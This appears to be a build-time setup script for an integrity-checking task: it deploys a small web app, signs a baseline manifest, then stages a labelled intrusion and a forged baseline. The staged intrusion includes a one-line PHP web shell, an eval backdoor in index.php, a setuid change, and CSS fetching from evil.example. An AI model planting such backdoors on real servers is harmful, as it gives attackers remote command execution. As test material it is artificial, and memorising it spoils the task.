#!/usr/bin/env bash
# Build-time only: deploy /srv/app, record and sign its baseline, then tamper with it.
set -euo pipefail
S=/tmp/setup
A=/srv/app
mkdir -p $A/config $A/static/css $A/static/js $A/static/img $A/uploads $A/bin \
         $A/releases/2024-05-01 $A/docs $A/logs
printf '<?php\nrequire "config/settings.ini";\necho "hello";\n' > $A/index.php
printf '[db]\nhost = db.internal\npassword = s3cr3t\n' > $A/config/settings.ini
printf 'body { color: #333; }\n' > $A/static/css/site.css
printf 'console.log("app");\n' > $A/static/js/app.js
head -c 3000 /dev/zero | tr '\0' '\211' > $A/static/img/logo.png
: > $A/uploads/.keep
printf '#!/bin/sh\ncurl -fs http://127.0.0.1/health\n' > $A/bin/healthcheck
printf '2024-05-01\n' > $A/releases/2024-05-01/VERSION
ln -s releases/2024-05-01 $A/current
printf 'Installation guide\n' > "$A/docs/Guide d'installation é.txt"
printf '100%% done\n' > "$A/docs/progress%.txt"
mkfifo $A/logs/app.pipe
chmod 0644 $A/index.php $A/static/css/site.css $A/static/js/app.js $A/static/img/logo.png \
           $A/uploads/.keep $A/releases/2024-05-01/VERSION "$A/docs/Guide d'installation é.txt" \
           "$A/docs/progress%.txt"
chmod 0640 $A/config/settings.ini
chmod 0750 $A/config
chmod 1777 $A/uploads
chmod 0755 $A/bin/healthcheck $A $A/static $A/static/css $A/static/js $A/static/img $A/bin \
           $A/releases $A/releases/2024-05-01 $A/docs $A/logs
mkdir -p /app/baseline /app/baseline-from-ticket /app/keys
# a throwaway signing key: only its public half stays on the machine
openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out $S/audit.key 2>/dev/null
openssl pkey -in $S/audit.key -pubout -out /app/keys/audit.pub
python3 $S/manifest.py $A > /app/baseline/manifest.txt
openssl dgst -sha256 -sign $S/audit.key -out /app/baseline/manifest.sig /app/baseline/manifest.txt
rm -f $S/audit.key
# --- the intrusion ---
printf '<?php\nrequire "config/settings.ini";\neval($_POST["x"]);\necho "hello";\n' > $A/index.php
chmod 4755 $A/bin/healthcheck
printf '<?php system($_GET["c"]); ?>\n' > $A/uploads/shell.php
rm $A/static/js/app.js
mkdir -p $A/releases/2024-04-01-evil
printf 'evil\n' > $A/releases/2024-04-01-evil/VERSION
ln -sfn releases/2024-04-01-evil $A/current
printf '[db]\nhost = db.internal\n' > /tmp/settings.ini
rm $A/config/settings.ini
ln -s /tmp/settings.ini $A/config/settings.ini
printf 'body { color: #333; } .x{background:url(//evil.example/p.gif)}\n' > $A/static/css/site.css
chmod 0666 $A/static/css/site.css
# a "baseline" that hides the intrusion but carries the old signature
sed -e "s#^f 0644 \([0-9]*\) [0-9a-f]* index.php\$#f 0644 $(stat -c %s $A/index.php) $(sha256sum $A/index.php | cut -d' ' -f1) index.php#" \
    /app/baseline/manifest.txt > /app/baseline-from-ticket/manifest.txt
cp /app/baseline/manifest.sig /app/baseline-from-ticket/manifest.sig
